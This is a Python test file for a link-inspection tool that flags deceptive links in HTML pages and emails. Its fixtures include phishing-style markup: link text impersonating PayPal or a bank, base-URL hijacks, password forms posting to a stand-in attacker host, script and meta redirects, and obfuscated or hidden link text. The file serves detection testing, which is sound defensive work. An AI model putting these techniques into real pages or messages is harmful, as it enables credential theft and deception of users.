"""Findings that depend on where a link is in its page."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import uriinspector
from tests.documents.mails import simple
from tests.examples import at_most
from tests.for_each import for_each
from uriinspector.documents.cases.link_row import row_of
from uriinspector.documents.leaf import Leaf

PAGE = "https://page.test/dir/index.html"
SHARE = "https://twitter.com/intent/tweet?url="


def reported(page: str, base: str | None = None) -> dict[str, tuple[str, str]]:
    """Return severity and message of the findings about a link's context, by code."""
    document = uriinspector.scan(page, name="x.html", base=base)
    codes = {
        *("text-href-mismatch", "base-hijack", "form-action", "auto-redirect", "svg-link"),
        *("event-handler", "html-obfuscation", "hidden-link"),
    }
    return {
        each.code: (each.severity, each.message)
        for link in document.links
        for each in link.findings
        if each.code in codes
    }


@for_each(
    "href, text, severity",
    ("http://evil.test/", "www.paypal.com", "high"),
    ("http://evil.test/", "http://paypal.com/login", "high"),
    ("http://evil.test/", "hxxps://paypal.com/", "high"),
    ("http://evil.test/", "Sign in at paypal.com now", "high"),
    ("http://evil.test/", "example.com", "high"),
    ("http://10.0.0.1/", "www.example.com", "high"),
    ("http://evil.test/", "<b>www.</b>paypal<i>.com</i>", "high"),
    ("https://www.google.com/url?q=http://evil.test/", "www.google.com", "high"),
    ("http://example.de/", "www.example.com", "low"),
    ("https://bit.ly/x", "www.example.com", "medium"),
    ("https://www.example.com/", "http://www.example.com/", None),
    ("https://click.mail.example.com/x", "www.example.com", None),
    ("https://www.google.com/url?q=http://example.com/", "www.example.com", None),
    ("http://evil.test/", "Click here. Now", None), ("http://evil.test/", "setup.py", None),
    ("http://evil.test/", "README.md", None), ("http://evil.test/", "Version 1.2.3", None),
    ("http://evil.test/", "see setup.cfg and example.com", None),
    ("https://learn.microsoft.com/aspnet", "ASP.NET", "low"),
    ("https://learn.microsoft.com/aspnet", "ASP.NET/x", "high"),
    ("https://en.wikipedia.org/wiki/Amazon", "e.g. this", None),
    ("mailto:a@evil.test", "help@example.com", "high"),
    ("mailto:a@example.com", "help@example.com", None),
    ("/login", "www.paypal.com", "high"),
    ("javascript:void(0)", "www.paypal.com", None),
    ("https://news.test/", "How PayPal.com was built in a garage", "medium"),
    ("https://example.com/", "example.com, once www.oldname.org", "medium"),
    ("https://example.com/", "Ph.D. theses, 3.5 million, $1.299.00, 10.12.2024", None),
    ("https://x.com/a", "twitter.com/a", None),
    ("https://youtu.be/a", "youtube.com/a", None),
    ("https://outlook.office365.com/", "outlook.com", None),
    ("mailto:'ann@example.com'", "ann@example.com", None),
    ("mailto:'ann@example.com.test'", "ann@example.com", "high"),
)  # fmt: skip
def test_link_text_that_names_another_site_is_reported(
    href: str, text: str, severity: str | None
) -> None:
    found = reported(f'<a href="{href}">{text}</a>', PAGE)
    assert found.get("text-href-mismatch", (None,))[0] == severity


def test_link_text_is_compared_with_the_final_host_of_safe_links() -> None:
    href = "https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fwww.example.com%2Fa&data=1"
    assert "text-href-mismatch" not in reported(f"<a href='{href}'>www.example.com</a>")


@for_each(
    "href",
    "https://eur01.safelinks.protection.outlook.com/?url={}&amp;data=05%7C02%7Cme%40acme.test",
    "https://nam12.safelinks.protection.outlook.com/ap/w-59584e83/?url={}&amp;data=1",
    "https://urldefense.proofpoint.com/v1/url?u={}&amp;k=abc",
    "https://urldefense.proofpoint.com/v2/url?u=https-3A__www.acme.com_a&amp;d=DwMFaQ",
    "https://urldefense.com/v3/__https://www.acme.com/a__;!!abc!xyz$",
    "https://linkprotect.cudasvc.com/url?a={}&amp;c=E,1,x",
    "https://protect-us.mimecast.com/s/abc?domain=acme.com", "https://secure-web.cisco.com/1abc/{}",
    "https://us-west-2.protection.sophos.com/?d=acme.com&amp;u=aHR0cHM6Ly93d3cuYWNtZS5jb20vYQ==",
    "https://protect.checkpoint.com/v2/___https://www.acme.com/a___.YXA",
    "https://u123.ct.sendgrid.net/ls/click?upn=abc",
    "https://acme.us5.list-manage.com/track/click?u=1", "https://click.news.acme.com/?qs=abc",
    "https://acme.sharepoint.com/sites/a", "https://acme.zendesk.com/hc", "https://acme.de/",
)  # fmt: skip
def test_redirect_services_of_a_company_are_at_most_low(href: str) -> None:
    link = href.format("https%3A%2F%2Fwww.acme.com%2Fa")
    shown = "Open it" if "acme." in href.split("/")[2] else "https://www.acme.com/a"
    header = "Delivered-To: me@acme.com\nContent-Type: text/html"
    octets = simple(header, f"<p><a href='{link}'>{shown}</a>").replace(b"a@a.test", b"a@acme.com")
    (found,) = uriinspector.scan(octets).links
    assert found.verdict.severity in {None, "info", "low"}, found.findings


@for_each("host", "acme.co", "acme.web.app", "acme.evil.test", "acme-login.com")
def test_imitations_of_the_recipient_domain_are_reported(host: str) -> None:
    octets = simple(
        "Delivered-To: me@acme.com\nContent-Type: text/html", f"<a href='https://{host}/'>"
    )
    (found,) = uriinspector.scan(octets).links
    assert found.verdict.severity == "medium"
    assert found.findings[0].message == (
        "The host contains or resembles the name of acme.com, the recipient's domain."
    )


@for_each("domain", "smith.com", "lists.org", "data.net", "acme.github.io")
def test_recipient_domain_with_a_common_name_is_not_compared(domain: str) -> None:
    host = f"{domain.partition('.')[0]}-portal.test"
    text = f"To: me@{domain}\nContent-Type: text/html\n\n<a href='https://{host}/'>"
    (found,) = uriinspector.scan(f"From: a@b.test\n{text}".encode()).links
    assert all("recipient" not in each.message for each in found.findings)


def test_headline_names_the_redirect_service() -> None:
    href = "https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fevil.test%2F"
    (link,) = uriinspector.scan(f"<a href='{href}'>www.bank.com</a>").links
    assert link.verdict.headline == "Goes to evil.test, not bank.com, via Microsoft Safe Links"


def test_mismatch_finding_names_the_differing_character() -> None:
    _, message = reported("<a href='http://paypa1.com/'>www.paypal.com</a>")["text-href-mismatch"]
    assert (
        '"1" (U+0031 DIGIT ONE) where the text shows "l" (U+006C LATIN SMALL LETTER L)' in message
    )


def test_base_is_reported_once_per_page() -> None:
    page = (
        "<base href='http://evil.test/'><a href='http://www.bank.com@x.test/'><a href='../a b'>"
        "<a href='x'><form action='y'><input type=password></form>"
    )
    document = uriinspector.scan(page, name="x.html", base=PAGE)
    assert [(each.code, each.severity, each.message) for each in document.findings] == [(
        "base-hijack", "high",
        "The page is from page.test; its base URL sends all relative links to evil.test.",
    )]  # fmt: skip
    (moved,) = document.findings
    assert page[moved.start : moved.end] == "http://evil.test/"
    rows = [row_of(link, 0) for link in document.links]
    assert [(row.value, row.code, row.severity) for row in rows] == [
        ("http://evil.test/", "base-hijack", "high"),
        ("http://www.bank.com@x.test/", "userinfo-deceptive", "high"),
        ("../a b", "dot-segments", "low"),
        ("x", "base-hijack", "info"),
        ("y", "form-action", "high"),
    ]


@for_each(
    "href, base",
    ("http://evil.test/", None), ("/other/", PAGE), ("https://www.page.test/", PAGE),
    ("data:x", PAGE), ("https://e vil.test/", PAGE), ("mailto:a@evil.test", PAGE),
)  # fmt: skip
def test_base_without_effect_is_not_reported(href: str, base: str | None) -> None:
    document = uriinspector.scan(f"<base href='{href}'><a href='x'>", name="x.html", base=base)
    assert document.findings == ()


def test_verdict_names_the_host_shown_in_the_link_text() -> None:
    (link,) = uriinspector.scan("<a href='http://evil.test/'>www.bank.com</a>").links
    assert link.verdict.headline == "Goes to evil.test, not bank.com"
    assert link.verdict.detail == (
        "The text shows www.bank.com; the link goes to evil.test. Do not open it."
    )
    assert link.verdict.severity == "high"


@for_each(
    "page, base, code, severity",
    ("<base href='http://evil.test/'><a href='/x'>", PAGE, "base-hijack", "info"),
    ("<a href='/x'><base href='http://evil.test/'>", PAGE, "base-hijack", "high"),
    ("<base href='http://evil.test/'><a href='www.bank.com/x'>", None, "base-hijack", "high"),
    ("<base href='http://evil.test/'><a href='x.html'>", None, "base-hijack", "low"),
    ("<base href='/other/'><a href='x'>", PAGE, "base-hijack", None),
    ("<base href='https://www.page.test/'><a href='x'>", PAGE, "base-hijack", None),
    ("<form action='http://evil.test/'><input type=password></form>", PAGE, "form-action", "high"),
    ("<form action='http://evil.test/'><input name=q></form>", PAGE, "form-action", "low"),
    ("<form action='http://evil.test/'></form><input type=password>", PAGE, "form-action", "low"),
    ("<form id=f action='http://evil.test/'></form><input type=password form=f>", PAGE,
        "form-action", "high"),
    ("<form action='http://evil.test/'><!--<input type=password>--></form>", PAGE, "form-action",
        "low"),
    ("<form action='http://evil.test/'><script>'<input type=password>'</script></form>", PAGE,
        "form-action", "low"),
    ("<form action='/x'><input type='PassWord'></form>", PAGE, "form-action", None),
    ("<form action='http://a.test/'><input type=password>", None, "form-action", "medium"),
    ("<form><button formaction='http://evil.test/'>", PAGE, "form-action", "high"),
    ("<form action='mailto:a@b.test'>", PAGE, "form-action", "medium"),
    ("<meta http-equiv=refresh content='0;url=http://evil.test/'>", PAGE, "auto-redirect", "high"),
    ("<meta http-equiv=refresh content='0;url=http://evil.test/'>", None, "auto-redirect", "high"),
    ("<meta http-equiv=refresh content='0;url=next'>", PAGE, "auto-redirect", "info"),
    ("<svg><a xlink:href='http://a.test/'></svg>", PAGE, "svg-link", "low"),
    ("<a href='https://bank.com/' onclick='location=\"http://evil.test/\"'>", PAGE, "event-handler",
        "high"),
    ("<a href='https://bank.com/' onclick='open(\"https://bank.com/x\")'>", PAGE, "event-handler",
        "low"),
    *((f"<a href='https://{shown}/' onclick='open(\"{SHARE}https://bank.com/x\")'>", PAGE,
    "event-handler", severity) for shown, severity in (("bank.com", "low"), ("a.com", "medium"))),
    ("<p onclick='open(\"http://a.test/\")'>", PAGE, "event-handler", "info"),
    ("<p onclick='fetch(\"http://a.test/\")'>", PAGE, "event-handler", "info"),
    ("<a href='&#104;&#116;&#116;p://a.test/'>", PAGE, "html-obfuscation", "medium"),
    ("<a href='http://a.test/?a=1&amp;b&#38;c'>", PAGE, "html-obfuscation", None),
    ("<a href='http://evil.test/'>www.pay&#8203;pal.com</a>", PAGE, "html-obfuscation", "high"),
    ("<a href='http://evil.test/'>pay<i style='display:none'>x</i>pal.com</a>", PAGE,
        "html-obfuscation", "high"),
    ("<a href='http://a.test/' style='display: none'>x</a>", PAGE, "hidden-link", "low"),
    ("<a href='http://a.test/'><i style='font-size:0'>x</i></a>", PAGE, "hidden-link", "low"),
    ("<a href='http://a.test/' style='font-size:09px'>x</a>", PAGE, "hidden-link", None),
    *((f"<a href='http://a.test/' style='{style}'>x</a>", PAGE, "hidden-link", "low")
    for style in ("display:/**/none", "dis\\70lay:none", "position:absolute;left:-9999px",
    "clip:rect(0,0,0,0)", "text-indent:-9999px", "opacity:0.0")),
    *((f"<a href='http://a.test/'{rest}</a>", PAGE, "hidden-link", None)
    for rest in (">&nbsp;<img src=x>", ">&nbsp;", "><img><i hidden>x</i>", ">",
    " style='font-size:0'><img src=x>", " style='opacity:.5'>x")),
    ("<form action=//evil.test><input type=&#112;assword>", PAGE, "form-action", "high"),
    *((f"<a href='https://bank.com/' onclick='{code}'>", PAGE, "event-handler", "low")
    for code in ("tell(\"https://stats.test/\")", "ga({page_location: \"http://a.test/\"})")),
    ("<a href='https://bank.com/' onclick='var u=\"http://evil.test/\"; location = u'>", PAGE,
    "event-handler", "high"),
    ("<form action='/x' onsubmit='this.action=\"http://evil.test/\"'>", PAGE,
    "event-handler", "high"),
    ("<body onload='location=\"http://evil.test/\"'>", PAGE, "event-handler", "high"),
    ("<body onload='location=\"/x\"'>", PAGE, "event-handler", "info"),
    ("<script>location.href = 'http://evil.test/'</script>", PAGE, "auto-redirect", "medium"),
    ("<script>location.href = 'http://evil.test/'</script>" + "<a href=/x>x</a>" * 9, PAGE,
    "auto-redirect", "low"),
    ("<script>y('http://a.test/')</script>", PAGE, "auto-redirect", None),
    ("<a href=//evil.test>\u202emoc.lapyap.www\u202c</a>", PAGE, "html-obfuscation", "high"),
    ("<a href='http://evil.test/'>paypal\u3002com</a>", PAGE, "html-obfuscation", "high"),
    ("<a href='http://evil.test/'>www.pay\xadpal.com</a>", PAGE, "html-obfuscation", "high"),
    ("<a href='http://evil.test/'>www.pay\xadpal.com</a>", PAGE, "text-href-mismatch", None),
)  # fmt: skip
def test_link_findings_depend_on_the_page(
    page: str, base: str | None, code: str, severity: str | None
) -> None:
    assert reported(page, base).get(code, (None,))[0] == severity


@for_each(
    "page, base, text, origin",
    ("<a href=x>", None, None, "default"),
    ("<a href=x>", PAGE, PAGE, "retrieval"),
    ("<a href=x><base href=' http://b.test/ '>", PAGE, "http://b.test/", "embedded"),
    ("<base target=x><base href='http://b.test/'><base href='http://c.test/'><a href=x>", PAGE,
    "http://b.test/", "embedded"),
    ("<base href='../b/'><a href=x>", PAGE, "https://page.test/b/", "embedded"),
    ("<base href='../b/'><a href=x>", None, None, "embedded"),
    ("<base href='data:text/plain,x'><a href=x>", PAGE, PAGE, "retrieval"),
    ("<base href='http://a b/'><a href=x>", PAGE, PAGE, "retrieval"),
    ("<template><base href='http://b.test/'></template><a href=x>", PAGE, PAGE, "retrieval"),
)  # fmt: skip
def test_link_has_its_base_and_origin(
    page: str, base: str | None, text: str | None, origin: str
) -> None:
    document = uriinspector.scan(page, name="x.html", base=base)
    link = next(link for link in document.links if link.element == "a")
    assert (link.base.text, link.base.origin) == (text, origin)
    assert link.base.note


def test_relative_base_note_cites_the_drafts() -> None:
    document = uriinspector.scan("<base href='b/'><a href=x>", name="x.html", base=PAGE)
    assert "appendix D" in document.links[1].base.note


def test_findings_in_srcset_items_point_to_the_item() -> None:
    (link,) = uriinspector.scan("<img srcset='a.png 1x, http://u@h.test/ 2x'>").links
    (finding,) = [each for each in link.findings if each.code == "userinfo-present"]
    assert link.value[finding.start : finding.end] == "u"


PIECES = (
    *("www.paypal.com", "text", " ", "&#46;", "&period;com", "\u200b", "\uff0e", "<b>", "</b>",
        "<br>"),
    *("<i style='display:none'>", "<i hidden>", "</i>", "<img alt='a.com'>", "</A>", "<", ">", '"'),
    *("<!-- . -->", "bank", ".com", "é", "<a href='http://b.test/'>", "</p>"),
)  # fmt: skip
INSIDE = ("", " title=x", " style='font-size:0'", " HIDDEN", " title='>.'", ' x="\'"', "/")


@settings(max_examples=at_most(500))
@given(st.lists(st.sampled_from(PIECES), max_size=6), st.sampled_from(INSIDE))
def test_quick_check_skips_only_link_texts_without_findings(pieces: list[str], more: str) -> None:
    page = f"<p><a href='http://evil.test/'{more}>{''.join(pieces)}</a>"
    links = uriinspector.scan(page).links
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(Leaf, "has_plain_text", lambda *_: False)
        expected = [link.findings for link in links]
    assert [link.findings for link in links] == expected


def test_data_image_with_line_breaks_is_at_most_low() -> None:
    (link,) = uriinspector.scan(
        "<img src='data:image/gif;base64,R0lGODlh\n DwAPALMO\n AP=='>"
    ).links
    assert link.verdict.severity in {None, "info", "low"}


@for_each(
    "page, severity, sentence",
    ("<script>location='https://evil.example'</script>",
        *("medium", "A script opens evil.example if it reaches this line.")),
    ("<script>location=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv')</script>",
        *("high", "A script decodes this address from base64 and opens evil.example.")),
    ("<script>var u='https://evil.example/';location=u</script>", "medium",
        "A script contains this address and goes to an address that is stored in a variable."),
    ("<meta http-equiv=refresh content='0;url=https://evil.example'>",
        *("high", "The page goes to evil.example without a click.")),
    ("<meta http-equiv=refresh content='0;url=/x'>", "info",
        "In a browser, this content redirects without a click, but not to another site."),
)  # fmt: skip
def test_redirect_of_a_page_is_reported(page: str, severity: str, sentence: str) -> None:
    assert reported(page, PAGE)["auto-redirect"] == (severity, sentence)


def test_tag_has_only_its_own_attributes() -> None:
    page = "<!doctype html><a href=/x rel=me>x</a><img src=/y><xa href=z><area a=1 href=w>"
    found = uriinspector.scan(page, name="x.html").links
    names = [set(link.leaf.tag(link.location).attributes) for link in found]
    assert names == [{"href", "rel"}, {"src"}, {"a", "href"}]
